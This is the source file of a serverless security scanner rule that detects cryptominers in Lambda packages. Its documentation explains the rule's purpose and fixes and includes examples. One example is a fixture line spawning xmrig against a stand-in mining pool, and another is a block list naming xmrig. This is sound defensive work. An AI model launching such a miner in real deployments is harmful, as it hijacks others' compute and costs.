"""A package holds a program that mines.

## What it finds

Files of any kind, native programs too, in code and layers, in which several things come together that only miners have to do
with: the addresses of pools, the names of miners and of what they compute, their options.

## Why it matters

A miner runs at your cost, and shows that somebody else decides what the function runs: whoever put it there could have put
anything there.

## How to fix

Do not run it. Look at the file; if nobody in the project wrote it, take the component out, build the function anew on a
clean machine, and change every secret that the function, its role or the machine that built it could read.

## Examples

### fires: a pool, and the options of a miner

```yaml template.yaml
Resources:
  Orders:
    Type: AWS::Lambda::Function
    Properties:
      Runtime: nodejs24.x
      Code: src # <- LWP060
```

```js src/lib/worker.js
spawn("./xmrig", ["-o", "stratum+tcp://pool.invalid:3333", "--donate-level", "1"]);
```

### silent: a text that speaks of miners

```yaml template.yaml
Resources:
  Orders:
    Type: AWS::Lambda::Function
    Properties:
      Runtime: nodejs24.x
      Code: src
```

```js src/lib/blocklist.js
module.exports = ["xmrig"];
```

### unknown: the package cannot be read

```yaml template.yaml
Resources:
  Orders:
    Type: AWS::Lambda::Function
    Properties:
      Runtime: nodejs24.x
      Code: orders.zip # ?- LWP060
```

```text orders.zip
this is no archive
```

## References

- https://attack.mitre.org/techniques/T1496/001/
"""

from collections.abc import Iterator

from lambdaward.analysis import Analysis
from lambdaward.rules import Doubt, Found, Severity, Standards, rule
from lambdaward.rules.packages.suspects import told

STANDARDS = Standards(
    owasp_serverless=("A9",),
    cwe=("CWE-506",),
    mitre_attack=(
        "T1496.001",
        "T1195.002",
    ),
)
DOES = {
    "miner": "is a miner, or starts one",
}


@rule("LWP060", "miner-in-package", Severity.HIGH, standards=STANDARDS)
def miner_in_package(analysis: Analysis) -> Iterator[Found | Doubt]:
    """Programs that mine."""
    yield from told(analysis, DOES, "does {} hold a miner?")
